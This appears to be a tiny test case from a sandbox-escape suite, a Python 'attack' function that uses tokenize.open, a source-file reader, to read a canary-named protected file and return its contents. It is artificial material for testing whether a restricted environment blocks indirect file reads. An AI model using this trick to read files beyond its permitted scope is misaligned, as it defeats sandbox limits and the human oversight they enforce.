# desc: tokenize.open, meant for sources
# class: escape
# wins: told
import tokenize

def attack(state):
    return "L2:" + tokenize.open("@CANARY@").read()
